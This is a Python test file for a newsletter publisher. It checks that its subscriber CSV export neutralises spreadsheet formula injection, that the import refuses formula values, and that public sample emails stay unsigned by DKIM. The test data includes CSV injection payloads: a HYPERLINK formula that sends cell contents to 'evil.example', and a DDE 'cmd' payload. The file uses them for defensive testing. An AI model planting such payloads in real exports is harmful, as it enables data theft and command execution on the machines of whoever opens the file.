"""Files with subscriber data or signatures: a CSV export safe in spreadsheets, a public sample never signed.

Formula injection: a cell that starts with = + - @ (or a tab, a line break, or their full-width
forms) is run as a formula by spreadsheets. The export neutralises every such cell, the import
reads them back unchanged and refuses values a column cannot hold.
"""

from __future__ import annotations

import csv
import io
import json
import secrets
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from publisher.delivery import send_release
from publisher.model import Article
from publisher.published import internal_dir
from publisher.settings import Settings, get_settings
from publisher.subscribers.cli import subscribers_group
from publisher.subscribers.csv_cells import read_cell, safe_cell
from tests.conftest import EXAMPLES
from tests.helpers import publish
from tests.newsletter_support import SinkHandler
from tests.subscribers.helpers import with_smtp

TRIGGERS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "－", " =", "\t=", "\x0b", "'="]
# Consent sources as an office might record them, and as an attacker would.
SOURCES = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
    "'=already quoted",
    "Messe 2026 (Stand 4)",
]


@pytest.fixture
def cli(monkeypatch: pytest.MonkeyPatch, database_url: str) -> Iterator[CliRunner]:
    monkeypatch.setenv("PUBLISHER_DATABASE_URL", database_url)
    monkeypatch.setenv("PUBLISHER_NEWSLETTER__SECRET_KEY", secrets.token_urlsafe(32))
    get_settings.cache_clear()
    yield CliRunner()
    get_settings.cache_clear()


def _formula_like(cell: str) -> bool:
    stripped = cell.lstrip(" \t\r\n\x0b\x0c")
    return bool(cell) and (stripped[:1] in ("=", "+", "-", "@", "＝", "＋", "－", "＠") or ord(cell[0]) < 32)


@pytest.mark.parametrize("start", TRIGGERS)
def test_a_cell_starting_a_formula_is_neutralised_and_read_back(start: str) -> None:
    """Each formula start gets an apostrophe in front; reading the cell back gives the value unchanged."""
    value = f"{start}1+1"
    cell = safe_cell(value)
    assert cell.startswith("'") and not _formula_like(cell)
    assert read_cell(cell) == value
    assert safe_cell("presse@example.org") == "presse@example.org" == read_cell("presse@example.org")
    assert read_cell(safe_cell("'apostroph")) == "'apostroph"


def test_the_export_opens_as_text_in_a_spreadsheet_and_imports_unchanged(
    cli: CliRunner, tmp_path: Path
) -> None:
    """Hostile addresses and consent sources come out neutralised; importing the export restores them."""
    addresses = ["=1+1@example.org", "-2+3@example.org", "+49@example.org", "normal@example.org"]
    for number, address in enumerate(addresses):
        for source in SOURCES[number::4]:
            added = cli.invoke(
                subscribers_group, ["add", "--consented-at", "2026-01-05", "--source", source, "--", address]
            )
            assert added.exit_code == 0, added.output
    exported = cli.invoke(subscribers_group, ["export"])
    assert exported.exit_code == 0
    rows = list(csv.reader(io.StringIO(exported.output)))
    assert rows[0] == [
        "email",
        "status",
        "language",
        "format",
        "audio_first",
        "consent_source",
        "confirmed_at",
    ]
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if _formula_like(cell)]
    assert {read_cell(row[0]) for row in rows[1:]} == set(addresses)
    assert {read_cell(row[5]) for row in rows[1:]} <= set(SOURCES)
    listing = cli.invoke(subscribers_group, ["list"])
    assert not [
        cell for line in listing.output.splitlines() for cell in line.split("\t") if _formula_like(cell)
    ]
    export = tmp_path / "export.csv"
    export.write_text(exported.output, encoding="utf-8")
    for address in addresses:
        assert cli.invoke(subscribers_group, ["remove", "--", address]).exit_code == 0
    imported = cli.invoke(subscribers_group, ["import", str(export)])
    assert imported.exit_code == 0, imported.output
    listed = json.loads(cli.invoke(subscribers_group, ["list", "--json"]).output)
    assert sorted(row["email"] for row in listed) == sorted(addresses)


@pytest.mark.parametrize(
    ("line", "column"),
    [
        ("a@example.org,de,html,=cmd|' /C calc'!A0,", "audio_first"),
        ("a@example.org,=1+1,html,,", "language"),
        ("a@example.org,de,@SUM(1),,", "format"),
        ("a@example.org,de,html,,=NOW()", "consented_at"),
        ('"=HYPERLINK(""x"")@example.org",de,html,,', "email"),
        ('"a@example.org\t=1",de,html,,', "email"),
    ],
)
def test_the_import_refuses_formula_values_a_column_cannot_hold(
    cli: CliRunner, tmp_path: Path, line: str, column: str
) -> None:
    """A formula where a language, format, flag, date or address belongs is refused by line and column."""
    path = tmp_path / "liste.csv"
    path.write_text(
        f"email,language,format,audio_first,consented_at\nok@example.org,de,html,,\n{line}\n",
        encoding="utf-8",
    )
    result = cli.invoke(subscribers_group, ["import", str(path)])
    assert result.exit_code == 2 and f"liste.csv:3: column '{column}'" in result.output, result.output
    assert json.loads(cli.invoke(subscribers_group, ["list", "--json"]).output) == []


def _dkim_settings(settings: Settings, tmp_path: Path) -> Settings:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    path = tmp_path / "dkim.pem"
    path.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.TraditionalOpenSSL,
            serialization.NoEncryption(),
        )
    )
    update = {"dkim_selector": "mail", "dkim_domain": "presse.example.de", "dkim_private_key": path}
    return settings.model_copy(update={"newsletter": settings.newsletter.model_copy(update=update)})


def test_the_public_sample_message_is_never_signed(
    nl_settings: Settings, tmp_path: Path, smtp_sink: tuple[SinkHandler, int], german_article: Article
) -> None:
    """newsletter.eml in the public tree carries no DKIM signature; what subscribers receive is signed."""
    settings = _dkim_settings(nl_settings, tmp_path)
    (report,) = publish(
        [EXAMPLES / "hitzeschutz-plan.md"], tmp_path / "site", settings, ("web", "newsletter")
    )
    assert report["channels"]["newsletter"]["status"] == "released"
    sample = (internal_dir(tmp_path / "site") / report["slug"] / "newsletter.eml").read_bytes()
    assert b"DKIM-Signature" not in sample and b"List-Unsubscribe" in sample
    public = [path for path in (tmp_path / "site").rglob("*") if path.is_file()]
    assert not [path for path in public if b"DKIM-Signature" in path.read_bytes()]
    sink, port = smtp_sink
    from publisher.store import add_subscriber, open_store

    sending = with_smtp(settings, port)
    with open_store(sending.database_url).session() as session:
        add_subscriber(session, "leser@example.org", source="test", confirmed_at=german_article.date)
    send_release(sending, german_article)
    assert sink.messages[0][2].startswith(b"DKIM-Signature:")
